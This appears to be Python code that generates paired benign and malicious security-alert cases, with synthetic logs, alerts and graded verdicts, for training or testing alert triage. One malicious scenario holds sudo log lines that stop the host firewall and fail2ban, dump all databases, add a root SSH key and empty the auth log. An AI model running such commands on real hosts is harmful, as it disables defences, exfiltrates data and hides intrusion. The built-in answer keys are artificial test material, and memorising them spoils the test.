# ruff: noqa: E501
"""What a house does to itself at odd hours, and its hostile twins: backups, probes, travel, help desks, nights on call."""

from datetime import datetime, timedelta
from typing import Any

from casebook import Case, Log, iso

SHARES = {
    "projects": ("Bergvei/offer.docx", "Bergvei/plan.dwg", "Lund/offer.docx", "Lund/photos/1.jpg", "Lund/photos/2.jpg", "Odden/minutes.docx", "Odden/costs.xlsx", "Aas/plan.dwg"),
    "finance": ("2025/salaries.xlsx", "2025/budget.xlsx", "2025/invoices/1001.pdf", "2025/invoices/1002.pdf", "2024/audit.pdf", "2024/salaries.xlsx"),
    "hr": ("contracts/aune.pdf", "contracts/berg.pdf", "contracts/dahl.pdf", "sick-leave.xlsx", "reviews/2025.docx"),
}  # fmt: skip
OFFICE = {"aune": ("10.31.4.11", "projects"), "dahl": ("10.31.4.12", "projects"), "moen": ("10.31.4.20", "finance"), "sunde": ("10.31.4.21", "hr")}  # fmt: skip


def audited(log: Log, when: datetime, user: str, address: str, share: str, what: str, *steps: str) -> None:
    """One line of Samba's vfs_full_audit."""
    log.add(when, f"{when.strftime('%b %e %H:%M:%S')} fs1 smbd_audit[{2200 + int(address.rsplit('.', 1)[1])}]: {user}|{address}|{share}|{what}", *steps)  # fmt: skip


def share_days(case: Case, log: Log, days: int) -> None:
    """People who open and save the files of their own share, each from the own desk."""
    for day in range(days):
        for user, (address, share) in OFFICE.items():
            audited(log, case.after(days=day, hours=7, minutes=case.dice.randrange(60)), user, address, share, "connect|ok|" + share)  # fmt: skip
            for _ in range(14):
                when = case.after(days=day, hours=8, minutes=case.dice.randrange(480))
                file = case.dice.choice(SHARES[share])
                kind = case.dice.choice(("r", "r", "w"))
                audited(log, when, user, address, share, f"open|ok|{kind}|{file}")
                if kind == "w":
                    audited(log, when + timedelta(seconds=2), user, address, share, f"pwrite|ok|{file}")


def every_share_is_read(log: Log, start: datetime, user: str, address: str, *steps: str) -> None:
    """Everything of every share is opened for reading, a few files a second."""
    turn = 0
    for share, files in SHARES.items():
        audited(log, start + timedelta(seconds=turn / 3), user, address, share, f"connect|ok|{share}", *steps)
        for copy in range(9):
            for file in files:
                turn += 1
                folder, _, name = file.rpartition("/")
                audited(log, start + timedelta(seconds=turn / 3), user, address, share, f"open|ok|r|{folder}/{copy}/{name}" if copy else f"open|ok|r|{file}", *steps)  # fmt: skip


def nightly_backup_of_shares() -> Case:
    """The backup account reads all shares at two, as it did in the nights before."""
    case = Case("b26_samba_audit_nightly_backup", "2025-11-03 00:00:00")
    log = case.log("samba-audit.log")
    share_days(case, log, 3)
    for day in range(4):
        every_share_is_read(log, case.after(days=day, hours=2, seconds=4), "bakman", "10.31.0.8", "alerted" if day == 3 else "before")  # fmt: skip
    case.alert = {"rule": "One account opened files of all shares within minutes", "severity": "high", "time": iso(case.start + timedelta(days=3, hours=2, minutes=1)), "fields": {"user": "bakman", "client": "10.31.0.8", "server": "fs1"}}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The backup account reads every share at two at night from the backup server, and did the same at the same time in each night before.",
        steps={"alerted": "the night's reading", "before": "the same reading at the same hour in the nights before"},
        not_iocs=("bakman", "10.31.0.8"),
    )


def shares_emptied_by_one_person() -> Case:
    """A draughtsman's account reads all shares at night from an address that it never used."""
    case = Case("m26_samba_audit_all_shares_read", "2025-11-03 00:00:00")
    log = case.log("samba-audit.log")
    share_days(case, log, 3)
    for day in range(3):
        every_share_is_read(log, case.after(days=day, hours=2, seconds=4), "bakman", "10.31.0.8")
    for turn, share in enumerate(("backup$", "IPC$", "admin$")):
        audited(log, case.after(days=3, hours=1, minutes=38, seconds=turn * 3), "dahl", "10.31.9.77", share, f"connect|fail (Permission denied)|{share}", "tried")  # fmt: skip
    every_share_is_read(log, case.after(days=3, hours=1, minutes=40), "dahl", "10.31.9.77", "alerted")
    case.alert = {"rule": "One account opened files of all shares within minutes", "severity": "high", "time": iso(case.start + timedelta(days=3, hours=1, minutes=41)), "fields": {"user": "dahl", "client": "10.31.9.77", "server": "fs1"}}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "dahl's account, which only ever opened drawings by day from its own desk, reads salaries and contracts of every share at night from an address that nobody used.",
        steps={"alerted": "all shares are read at night"},
        optional={"tried": "closed shares are tried"},
        techniques="T1039",
        more_techniques="T1078 T1135 T1083 T1005 T1119 T1021.002 T1078.002",
        iocs=("10.31.9.77",),
        more_iocs=("dahl",),
        not_iocs=("bakman", "10.31.0.8"),
    )


def ftp(log: Log, when: datetime, pid: int, user: str, what: str, address: str, *steps: str) -> None:
    """One line of vsftpd's own log."""
    log.add(when, f'{when.strftime("%a %b %e %H:%M:%S %Y")} [pid {pid}] {f"[{user}] " if user else ""}{what}: Client "{address}"', *steps)  # fmt: skip


def probe_with_the_old_password() -> Case:
    """A service check logs in every ten minutes; since the password was changed it fails at the same rhythm."""
    case = Case("b27_vsftpd_probe_old_password", "2025-10-06 00:00:00")
    log = case.log("vsftpd.log")
    for turn in range(6 * 42):
        when = case.start + timedelta(minutes=10 * turn, seconds=case.dice.randrange(3))
        changed = turn >= 6 * 33
        ftp(log, when, 9000 + 2 * turn, "", "CONNECT", "10.44.0.6")
        ftp(log, when + timedelta(seconds=1), 8999 + 2 * turn, "svc_check", "FAIL LOGIN" if changed else "OK LOGIN", "10.44.0.6", "failures" if changed else "before")  # fmt: skip
    for day in range(2):
        for user, address in (("printshop", case.public()), ("press", "10.44.3.9"), ("catalogue", "10.44.3.14")):
            for _ in range(5):
                when = case.after(days=day, hours=8, minutes=case.dice.randrange(500))
                pid = case.dice.randrange(20000, 30000)
                ftp(log, when, pid, "", "CONNECT", address)
                ftp(log, when + timedelta(seconds=1), pid, user, "OK LOGIN", address)
                ftp(log, when + timedelta(seconds=4), pid + 1, user, "OK UPLOAD", f'{address}", "/in/{case.dice.randrange(900)}.pdf", {case.dice.randrange(9000, 900000)} bytes, 812.41Kbyte/sec')  # fmt: skip
    log.entries = [(w, n, str(e).replace('/sec"', "/sec"), s) for w, n, e, s in log.entries]
    case.alert = {"signature": "FTP brute force", "level": 10, "when": iso(case.start + timedelta(hours=41)), "src": "10.44.0.6", "login": "svc_check", "failures": 48}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The service check logged in every ten minutes from the same address and goes on at that rhythm with a password that no longer holds since nine in the morning; no password is guessed.",
        steps={
            "failures": "one failure every ten minutes",
            "before": "the same log-in at the same rhythm worked before",
        },
        not_iocs=("10.44.0.6", "svc_check"),
    )


PEER = {
    "berg": ("02:1a:7d:10:4c:91", "win", "2.6.10"),
    "solli": ("02:1a:7d:22:01:7e", "win", "2.6.10"),
    "nes": ("02:1a:7d:90:ab:12", "mac", "2.6.8"),
    "hagen": ("02:1a:7d:3e:5f:60", "win", "2.6.10"),
}


def tunnel(case: Case, log: Log, when: datetime, user: str, address: str, *steps: str, device: tuple[str, str, str] | None = None, inside: int = 6) -> None:  # fmt: skip
    """What OpenVPN 2.6 writes at verbosity 4 about one client that comes in."""
    mac, platform, version = device or PEER[user]
    port = case.dice.randrange(40000, 60000)
    lines = (
        f"{address}:{port} TLS: Initial packet from [AF_INET]{address}:{port}, sid={case.hex(8)} {case.hex(8)}",
        f"{address}:{port} VERIFY OK: depth=1, CN=Tveit CA",
        f"{address}:{port} VERIFY OK: depth=0, CN={user}",
        f"{address}:{port} peer info: IV_VER={version}",
        f"{address}:{port} peer info: IV_PLAT={platform}",
        f"{address}:{port} peer info: IV_HWADDR={mac}",
        f"{address}:{port} TLS: Username/Password authentication succeeded for username '{user}'",
        f"{address}:{port} Control Channel: TLSv1.3, cipher TLSv1.3 TLS_AES_256_GCM_SHA384, peer certificate: 2048 bits RSA, signature: RSA-SHA256",
        f"{address}:{port} [{user}] Peer Connection Initiated with [AF_INET]{address}:{port}",
        f"{user}/{address}:{port} MULTI_sva: pool returned IPv4=10.8.0.{inside}, IPv6=(Not enabled)",
    )
    for line in lines:
        log.add(when, f"{when.strftime('%Y-%m-%d %H:%M:%S')} {line}", *steps)


def duo(case: Case, when: datetime, user: str, address: str, country: str, result: str, reason: str) -> dict[str, Any]:
    """One entry of Duo's authentication log."""
    return {
        "txid": case.uuid(), "timestamp": int(when.timestamp()), "isotimestamp": iso(when, 6).replace("Z", "+00:00"),
        "event_type": "authentication", "application": {"name": "Tveit VPN", "key": "DIQ4X7"}, "user": {"name": user, "groups": ["staff"]},
        "factor": "duo_push", "result": result, "reason": reason, "access_device": {"ip": address, "location": {"country": country}},
        "auth_device": {"name": f"{user} phone", "ip": address if result == "success" else "none"},
    }  # fmt: skip


def homes(case: Case, days: int) -> tuple[Log, Log, dict[str, str]]:
    """People who come in from home every morning, each with the own machine and telephone."""
    log, second = case.log("openvpn.log"), case.log("duo-auth.jsonl")
    where = {user: case.public() for user in PEER}
    for day in range(days):
        for position, user in enumerate(PEER):
            when = case.after(days=day, hours=6, minutes=case.dice.randrange(90))
            tunnel(case, log, when, user, where[user], inside=6 + 4 * position)
            second.add(when + timedelta(seconds=6), duo(case, when + timedelta(seconds=6), user, where[user], "Norway", "success", "user_approved"))  # fmt: skip
            gone = when + timedelta(hours=8)
            log.add(gone, f"{gone.strftime('%Y-%m-%d %H:%M:%S')} {user}/{where[user]}:50000 SIGTERM[soft,remote-exit] received, client-instance exiting")  # fmt: skip
    return log, second, where


def travelling_with_the_own_laptop() -> Case:
    """An employee comes in from a hotel abroad: own machine, own certificate, own telephone, a booked journey."""
    case = Case("b28_openvpn_journey_abroad", "2025-09-01 00:00:00")
    log, second, _ = homes(case, 3)
    hotel = case.public()
    for day in (3, 4):
        when = case.after(days=day, hours=5, minutes=40)
        tunnel(case, log, when, "berg", hotel, "abroad")
        then = when + timedelta(seconds=7)
        second.add(then, duo(case, then, "berg", hotel, "Portugal", "success", "user_approved"), "approved")
    trips = case.log("travel-bookings.csv", "booking,booked_at,booked_by,traveller,from,to,city,country")
    trips.add(
        case.after(days=-20), "T-4407,2025-08-12T09:20:11Z,office@tveit.example,hagen,2025-08-18,2025-08-20,Bodø,Norway"
    )
    trips.add(case.after(days=-9), "T-4419,2025-08-23T12:05:40Z,office@tveit.example,berg,2025-09-03,2025-09-06,Porto,Portugal", "booked")  # fmt: skip
    case.alert = {"title": "VPN log-in from a new country", "severity": "high", "detected": iso(case.start + timedelta(days=3, hours=5, minutes=41)), "user": "berg", "ip": hotel, "country": "PT", "usual": "NO"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "berg comes in from Portugal with the machine and certificate of every day, approves the push at once, and the office booked the journey days before.",
        steps={
            "abroad": "same machine and certificate",
            "approved": "the push was approved on the own telephone",
            "booked": "the office booked the journey",
        },
        not_iocs=(hotel, "berg"),
    )


def certificate_in_other_hands() -> Case:
    """The certificate of an employee who is at home comes in from another machine; the push is refused until it is not."""
    case = Case("m28_openvpn_copied_certificate", "2025-09-01 00:00:00")
    log, second, where = homes(case, 4)
    intruder = case.public()
    for turn in range(5):
        then = case.after(days=3, hours=9, minutes=2 * turn)
        refused = turn < 4
        second.add(then, duo(case, then, "berg", intruder, "Moldova", "denied" if refused else "success", "user_marked_fraud" if turn == 1 else "no_response" if refused else "user_approved"), "pushes")  # fmt: skip
    tunnel(case, log, case.after(days=3, hours=9, minutes=8, seconds=9), "berg", intruder, "abroad", device=("52:54:00:0a:41:c7", "linux", "2.5.1"), inside=40)  # fmt: skip
    trips = case.log("travel-bookings.csv", "booking,booked_at,booked_by,traveller,from,to,city,country")
    trips.add(
        case.after(days=-20), "T-4407,2025-08-12T09:20:11Z,office@tveit.example,hagen,2025-08-18,2025-08-20,Bodø,Norway"
    )
    case.alert = {"title": "VPN log-in from a new country", "severity": "high", "detected": iso(case.start + timedelta(days=3, hours=9, minutes=9)), "user": "berg", "ip": intruder, "country": "MD", "usual": "NO"}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "While berg is connected from home, berg's certificate comes in from another machine abroad after pushes that berg refused and reported.",
        steps={"pushes": "four pushes refused, then one approved", "abroad": "another machine abroad"},
        techniques="T1078",
        more_techniques="T1621 T1133 T1552.004 T1649 T1078.002",
        iocs=(intruder,),
        more_iocs=("berg", "52:54:00:0a:41:c7"),
        not_iocs=(where["berg"],),
    )


STAFF = ("asta", "bror", "cato", "dina", "eline", "frode", "gaute", "hanne", "ivar", "jorunn", "kim", "liv")
REALM = "5b0c7a0e-1f0e-4b8e-9a55-1d2f7f1c9a10"


def keycloak(log: Log, when: datetime, level: str, fields: dict[str, str], *steps: str) -> None:
    """One event of Keycloak's own log."""
    told = ", ".join(f'{name}="{value}"' for name, value in fields.items())
    log.add(when, f"{when.strftime('%Y-%m-%d %H:%M:%S')},{when.microsecond // 1000:03d} {level.ljust(5)} [org.keycloak.events] (executor-thread-{when.second % 19}) {told}", *steps)  # fmt: skip


def signed_in(log: Log, when: datetime, user: str, address: str, *steps: str, error: str = "") -> None:
    """A person signs in, or does not."""
    fields = {"type": "LOGIN_ERROR" if error else "LOGIN", "realmId": REALM, "clientId": "intranet", "userId": user_id(user), "ipAddress": address}  # fmt: skip
    fields |= {"error": error} if error else {}
    keycloak(log, when, "WARN" if error else "DEBUG", fields | {"auth_method": "openid-connect", "username": user, "redirect_uri": "https://intra.holm.example/"}, *steps)  # fmt: skip


def user_id(user: str) -> str:
    """The identifier of an account, the same in every line."""
    return f"{sum(map(ord, user)):08x}-77aa-4c1e-8d3b-{int.from_bytes(user.encode()[:5], 'big'):012x}"


def admin_event(log: Log, when: datetime, by: str, address: str, of: str, what: str, *steps: str) -> None:
    """An administrator acts on an account."""
    keycloak(log, when, "DEBUG", {"operationType": "ACTION" if what == "reset-password" else "UPDATE", "realmId": REALM, "clientId": "security-admin-console", "userId": user_id(by), "ipAddress": address, "resourceType": "USER", "resourcePath": f"users/{user_id(of)}/{what}".rstrip("/")}, *steps)  # fmt: skip


def workplace(case: Case, days: int) -> Log:
    """Everybody signs in from the own desk in the morning, two help desk people among them."""
    log = case.log("keycloak.log")
    for day in range(days):
        for position, user in enumerate((*STAFF, "desk.runa", "desk.tor")):
            signed_in(log, case.after(days=day, hours=6, minutes=case.dice.randrange(110)), user, f"10.52.3.{20 + position}")  # fmt: skip
        admin_event(
            log, case.after(days=day, hours=9, minutes=12), "desk.tor", "10.52.3.33", STAFF[day + 4], "reset-password"
        )
        signed_in(log, case.after(days=day, hours=9, minutes=15), STAFF[day + 4], f"10.52.3.{24 + day}")
    return log


def help_desk_after_expiry() -> Case:
    """Passwords ran out over the summer; people call, the help desk resets, each signs in at the own desk."""
    case = Case("b29_keycloak_passwords_ran_out", "2025-08-11 00:00:00")
    log = workplace(case, 3)
    tickets = case.log("tickets.csv", "number,opened,requester,assigned,closed,subject")
    for turn, user in enumerate(STAFF[:8]):
        called = case.after(days=3, hours=6, minutes=10 + 9 * turn)
        desk = f"10.52.3.{20 + STAFF.index(user)}"
        signed_in(log, called, user, desk, "failed", error="invalid_user_credentials")
        tickets.add(called, f"{88120 + turn},{iso(called + timedelta(minutes=1))},{user}@holm.example,desk.runa,{iso(called + timedelta(minutes=5))},My password no longer works after the holidays", "tickets")  # fmt: skip
        admin_event(log, called + timedelta(minutes=3), "desk.runa", "10.52.3.32", user, "reset-password", "resets")
        signed_in(log, called + timedelta(minutes=4), user, desk, "back")
    case.alert = {"name": "Many passwords reset by one administrator", "severity": "high", "startsAt": iso(case.start + timedelta(days=3, hours=7, minutes=20)), "labels": {"actor": "desk.runa", "realm": "holm", "count": "8"}}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "Eight people's passwords had run out; each failed at the own desk, opened a ticket, got a reset from the help desk's own desk and signed in at the own desk.",
        steps={"resets": "the resets", "tickets": "each person asked for it", "back": "each signs in at the own desk"},
        optional={"failed": "each failed first"},
        not_iocs=("desk.runa", "10.52.3.32"),
    )


def help_desk_account_taken() -> Case:
    """A help desk account is used from outside at night to reset others' passwords, and the same address signs in as them."""
    case = Case("m29_keycloak_help_desk_taken", "2025-08-11 00:00:00")
    log = workplace(case, 3)
    tickets = case.log("tickets.csv", "number,opened,requester,assigned,closed,subject")
    tickets.add(case.after(days=1, hours=9), f"88110,{iso(case.start + timedelta(days=1, hours=9))},frode@holm.example,desk.tor,{iso(case.start + timedelta(days=1, hours=9, minutes=14))},Forgot my password")  # fmt: skip
    intruder = case.public()
    for turn in range(7):
        signed_in(log, case.after(days=3, hours=1, seconds=20 * turn), "desk.runa", intruder, "guessed", error="invalid_user_credentials")  # fmt: skip
    signed_in(log, case.after(days=3, hours=1, minutes=3), "desk.runa", intruder, "in")
    for turn, user in enumerate(STAFF[:6]):
        when = case.after(days=3, hours=1, minutes=6 + 3 * turn)
        admin_event(log, when, "desk.runa", intruder, user, "reset-password", "resets")
        if turn in (1, 4):
            signed_in(log, when + timedelta(minutes=1), user, intruder, "taken")
    case.alert = {"name": "Many passwords reset by one administrator", "severity": "high", "startsAt": iso(case.start + timedelta(days=3, hours=1, minutes=20)), "labels": {"actor": "desk.runa", "realm": "holm", "count": "6"}}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "desk.runa's password is guessed from outside at night; six passwords are reset without any ticket and the same address signs in as two of these people.",
        steps={
            "in": "the help desk account gets in from outside",
            "resets": "six resets",
            "taken": "the same address signs in as others",
        },
        optional={"guessed": "seven failures before"},
        techniques="T1098",
        more_techniques="T1110 T1110.001 T1078 T1078.004 T1531 T1556",
        iocs=(intruder,),
        more_iocs=("desk.runa", "bror", "eline"),
        not_iocs=("desk.tor", "10.52.3.33"),
    )


def rfc5424(when: datetime, host: str, program: str, pid: int, message: str) -> str:
    """A line of the new syslog format."""
    return f"<86>1 {iso(when, 3)} {host} {program} {pid} - - {message}"


def database_nights(case: Case, days: int) -> Log:
    """A database host: administrators by day, timers at night."""
    log = case.log("db-7.log")
    for day in range(days):
        for hour in range(24):
            when = case.after(days=day, hours=hour, minutes=17)
            log.add(
                when,
                rfc5424(when, "db-7", "CRON", 3000 + hour, "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"),
            )
            then = when + timedelta(minutes=3)
            log.add(then, rfc5424(then, "db-7", "systemd", 1, "Finished logrotate.service - Rotate log files."))
        for user, address, command in (("kari", "10.7.2.14", "/usr/bin/systemctl status mariadb"), ("nils", "10.7.2.15", "/usr/bin/apt-get upgrade"), ("kari", "10.7.2.14", "/usr/bin/journalctl -u mariadb")):  # fmt: skip
            when = case.after(days=day, hours=8, minutes=case.dice.randrange(400))
            night_login(case, log, when, user, address)
            sudo(log, when + timedelta(minutes=2), user, command)
    return log


def night_login(case: Case, log: Log, when: datetime, user: str, address: str, *steps: str) -> None:
    """A log-in by key."""
    pid = case.dice.randrange(2000, 30000)
    log.add(when, rfc5424(when, "db-7", "sshd", pid, f"Accepted publickey for {user} from {address} port {40000 + pid % 9000} ssh2: ED25519 SHA256:{user}Yq0rX{len(user)}"), *steps)  # fmt: skip


def sudo(log: Log, when: datetime, user: str, command: str, *steps: str) -> None:
    """What sudo writes."""
    log.add(when, rfc5424(when, "db-7", "sudo", 4411, f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"), *steps)  # fmt: skip


def on_call_at_three() -> Case:
    """A page at ten to three, acknowledged by the engineer on call, who switches the firewall off and on again."""
    case = Case("b30_syslog_on_call_at_night", "2025-11-10 00:00:00")
    log = database_nights(case, 3)
    pages = case.log("oncall.jsonl")
    night = case.start + timedelta(days=3, hours=2)
    pages.add(case.after(hours=14), {"ts": iso(case.start + timedelta(hours=14)), "event": "incident.triggered", "incident": "P-2288", "service": "web-2", "summary": "disk 91 % full", "assigned_to": "nils"})  # fmt: skip
    for minutes, event, extra in ((48, "incident.triggered", {"summary": "db-7: replica no longer reaches primary on 3306", "assigned_to": "kari"}), (51, "incident.acknowledged", {"by": "kari", "channel": "phone"}), (89, "incident.resolved", {"by": "monitor", "summary": "replication caught up"})):  # fmt: skip
        when = night + timedelta(minutes=minutes)
        pages.add(when, {"ts": iso(when), "event": event, "incident": "P-2291", "service": "db-7", **extra}, "page")
    night_login(case, log, night + timedelta(minutes=56), "kari", "10.7.2.14", "login")
    for minutes, command in ((58, "/usr/bin/systemctl stop nftables"), (60, "/usr/bin/systemctl stop fail2ban"), (63, "/usr/bin/mysql -e 'START SLAVE'"), (71, "/usr/bin/vi /etc/nftables.conf"), (79, "/usr/bin/systemctl start nftables"), (80, "/usr/bin/systemctl start fail2ban")):  # fmt: skip
        when = night + timedelta(minutes=minutes)
        sudo(
            log,
            when,
            "kari",
            command,
            "off" if " stop " in command else "on" if "systemctl start" in command else "~work",
        )
        if "systemctl" in command:
            verb, unit = command.split()[1:]
            log.add(when + timedelta(seconds=1), rfc5424(when + timedelta(seconds=1), "db-7", "systemd", 1, f"{'Stopped' if verb == 'stop' else 'Started'} {unit}.service - {unit}."), "off" if verb == "stop" else "on")  # fmt: skip
    case.alert = {"title": "Host firewall stopped outside of working hours", "severity": "critical", "time": iso(night + timedelta(minutes=58)), "host": "db-7", "user": "kari"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "kari is paged at 02:48 about db-7, acknowledges, comes in from the usual address and key, stops the firewall for twenty minutes to mend replication and starts it again.",
        steps={"off": "firewall stopped", "on": "and started again", "page": "the page that explains it"},
        optional={"login": "usual address and key"},
        not_iocs=("kari", "10.7.2.14"),
    )


def night_without_a_page() -> Case:
    """The same commands without a page, from elsewhere, never taken back, and a key left behind."""
    case = Case("m30_syslog_night_without_page", "2025-11-10 00:00:00")
    log = database_nights(case, 3)
    pages = case.log("oncall.jsonl")
    pages.add(case.after(hours=14), {"ts": iso(case.start + timedelta(hours=14)), "event": "incident.triggered", "incident": "P-2288", "service": "web-2", "summary": "disk 91 % full", "assigned_to": "nils"})  # fmt: skip
    night = case.start + timedelta(days=3, hours=2)
    night_login(case, log, night + timedelta(minutes=56), "kari", "10.7.66.103", "login")
    for minutes, command in ((58, "/usr/bin/systemctl stop nftables"), (60, "/usr/bin/systemctl stop fail2ban"), (63, "/usr/bin/mysqldump --all-databases -r /var/tmp/.d.sql"), (69, "/usr/bin/tee -a /root/.ssh/authorized_keys"), (72, "/usr/bin/truncate -s 0 /var/log/auth.log")):  # fmt: skip
        when = night + timedelta(minutes=minutes)
        sudo(log, when, "kari", command, "off" if " stop " in command else "taken")
    case.alert = {"title": "Host firewall stopped outside of working hours", "severity": "critical", "time": iso(night + timedelta(minutes=58)), "host": "db-7", "user": "kari"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "kari's account comes in at night from an address it never used, stops the defences for good, dumps all databases, leaves a key for root and empties the log.",
        steps={"off": "defences stopped", "taken": "dump, key and emptied log"},
        optional={"login": "from a new address"},
        techniques="T1562.004 T1098.004",
        more_techniques="T1562 T1562.001 T1070 T1070.002 T1005 T1078 T1021.004 T1548.003 T1003 T1213 T1213.006",
        iocs=("10.7.66.103",),
        more_iocs=("kari", "/var/tmp/.d.sql"),
        not_iocs=("nils", "10.7.2.15"),
    )


def object_event(case: Case, when: datetime, name: str, role: str, address: str, bucket: str, owner: str, key: str, size: int) -> dict[str, Any]:  # fmt: skip
    """One data event of CloudTrail about an object."""
    own = "204418830117"
    return {
        "eventVersion": "1.09", "userIdentity": {"type": "AssumedRole", "principalId": f"AROA4X2KQ{len(role)}:{role}", "arn": f"arn:aws:sts::{own}:assumed-role/{role}/{role}", "accountId": own, "accessKeyId": "ASIA4X2KQMIG00000001"},
        "eventTime": iso(when), "eventSource": "s3.amazonaws.com", "eventName": name, "awsRegion": "eu-north-1", "sourceIPAddress": address,
        "userAgent": "[rclone/v1.66.0]", "requestParameters": {"bucketName": bucket, "Host": f"{bucket}.s3.eu-north-1.amazonaws.com", "key": key},
        "responseElements": {"x-amz-server-side-encryption": "aws:kms"}, "additionalEventData": {"bytesTransferredIn": size if name == "PutObject" else 0, "bytesTransferredOut": size if name == "GetObject" else 0},
        "eventID": case.uuid(), "readOnly": name == "GetObject", "resources": [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"}, {"accountId": owner, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}],
        "eventType": "AwsApiCall", "managementEvent": False, "recipientAccountId": own, "eventCategory": "Data",
    }  # fmt: skip


def moved_to_the_own_bucket() -> Case:
    """Forty gigabytes of drawings go from the old to the new bucket of the same account, announced by a change."""
    case = Case("b31_cloudtrail_data_moved_to_own_bucket", "2025-10-20 00:00:00")
    log = case.log("cloudtrail.jsonl")
    for turn in range(90):
        when = case.sometime(days=2)
        log.add(when, object_event(case, when, case.dice.choice(("GetObject", "PutObject")), "portal", "10.71.3.9", "elvik-drawings", "204418830117", f"site/{turn % 30}.dwg", 400000))  # fmt: skip
    start = case.start + timedelta(days=2, hours=1)
    for turn in range(80):
        when = start + timedelta(seconds=30 * turn)
        for name, bucket, step in (
            ("GetObject", "elvik-drawings", "read"),
            ("PutObject", "elvik-archive-2", "written"),
        ):
            log.add(when, object_event(case, when, name, "migration-runner", "10.71.9.4", bucket, "204418830117", f"archive/{turn:04d}.tar", 512_000_000), step)  # fmt: skip
    changes = case.log("changes.csv", "change,created,requested_by,approved_by,state,window_start,window_end,what")
    changes.add(
        case.after(hours=-40),
        "CHG-1177,2025-10-18T08:11:02Z,ops@elvik.example,it-lead@elvik.example,closed,2025-10-19T05:00:00Z,2025-10-19T06:00:00Z,Restart the portal",
    )
    changes.add(case.after(hours=-30), "CHG-1180,2025-10-18T18:22:45Z,data@elvik.example,it-lead@elvik.example,approved,2025-10-22T00:30:00Z,2025-10-22T04:00:00Z,Move archive/ of elvik-drawings to elvik-archive-2 with migration-runner", "change")  # fmt: skip
    case.alert = {"finding": "Large volume of objects copied out of a bucket", "severity": 8.0, "eventTime": iso(start + timedelta(minutes=10)), "principal": "migration-runner", "bucket": "elvik-drawings", "gigabytes": 40}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "migration-runner copies the archive to another bucket of the same account inside the window of an approved change.",
        steps={
            "read": "objects read",
            "written": "and written to a bucket of the same account",
            "change": "the approved change",
        },
        not_iocs=("migration-runner", "10.71.9.4", "elvik-archive-2"),
    )


def balanced(case: Case, log: Log, when: datetime, address: str, agent: str, request: str, status: int, *steps: str, backend: str = "be_shop/app2") -> None:  # fmt: skip
    """One line of HAProxy's HTTP log."""
    log.add(when, f"{when.strftime('%b %e %H:%M:%S')} lb1 haproxy[1203]: {address}:{case.dice.randrange(20000, 60000)} [{when.strftime('%d/%b/%Y:%H:%M:%S')}.{when.microsecond // 1000:03d}] fe_https~ {backend} 0/0/1/{case.dice.randrange(5, 90)}/{case.dice.randrange(91, 140)} {status} {case.dice.randrange(300, 9000)} - - ---- 12/12/4/2/0 0/0 {{shop.fjord.example|{agent}}} \"{request} HTTP/1.1\"", *steps)  # fmt: skip


def load_test() -> Case:
    """Two load generators of the house ask the shop as often as they can for four minutes, as every week."""
    case = Case("b32_haproxy_weekly_load_test", "2025-10-01 00:00:00")
    log = case.log("haproxy.log")
    pages = ("GET /", "GET /api/cart", "GET /api/products?page=2", "GET /static/app.js", "POST /api/cart/items")
    for _ in range(350):
        balanced(case, log, case.sometime(days=8, hours=12), case.public(), "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", case.dice.choice(pages), case.dice.choice((200, 200, 200, 304, 404)))  # fmt: skip
    for day in (1, 8):
        for turn in range(450):
            when = case.start + timedelta(days=day, hours=4, seconds=turn * 0.4)
            balanced(case, log, when, case.dice.choice(("10.9.0.31", "10.9.0.32")), "k6/0.49.0 (https://k6.io/)", case.dice.choice(pages), 200 if case.dice.random() > 0.03 else 503, "flood" if day == 8 else "before")  # fmt: skip
    case.alert = {"name": "HTTP flood", "priority": 1, "time": iso(case.start + timedelta(days=8, hours=4, minutes=1)), "clients": ["10.9.0.31", "10.9.0.32"], "requestsPerSecond": 6}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "Two load generators inside the house ask the shop's ordinary pages with k6 for four minutes; they did the same a week before at the same hour.",
        steps={"flood": "the load", "before": "the same load a week before"},
        not_iocs=("10.9.0.31", "10.9.0.32"),
    )


def ipa(log: Log, when: datetime, address: str, who: str, call: str, *steps: str, result: str = "SUCCESS") -> None:
    """One line of FreeIPA's API log."""
    log.add(when, f"[{when.strftime('%a %b %d %H:%M:%S')}.{when.microsecond:06d} {when.year}] [wsgi:error] [pid 2231:tid 2519] [remote {address}:51422] ipa: INFO: [jsonserver_session] {who}@FJELL.EXAMPLE: {call}: {result}", *steps)  # fmt: skip


def directory_days(case: Case, days: int) -> Log:
    """The HR job's nightly run and an administrator's lookups."""
    log = case.log("httpd-error.log")
    for day in range(days):
        for turn, user in enumerate(STAFF[day : day + 2]):
            ipa(log, case.after(days=day, hours=4, seconds=turn), "10.3.0.8", "hrsync", f"group_add_member/1('projects-{day}', user=('{user}',), version='2.251')", "~before")  # fmt: skip
        ipa(
            log,
            case.after(days=day, hours=4, seconds=30),
            "10.3.0.8",
            "hrsync",
            "user_find/1(None, in_group=('staff',), version='2.251')",
        )
        for _ in range(20):
            ipa(log, case.after(days=day, hours=8, minutes=case.dice.randrange(480)), "10.3.4.12", "admin.liv", f"user_show/1('{case.dice.choice(STAFF)}', version='2.251')")  # fmt: skip
    return log


def new_starters() -> Case:
    """On the first of the month the HR job makes twelve accounts and puts them into groups."""
    case = Case("b33_freeipa_new_starters", "2025-08-29 00:00:00")
    log = directory_days(case, 3)
    starters = case.log("hr-starters.csv", "exported,employee,login,department,first_day,approved_by")
    for turn in range(12):
        user = f"{STAFF[turn]}.{'abcdefghijkl'[turn]}ne"
        when = case.after(days=3, hours=4, seconds=4 * turn)
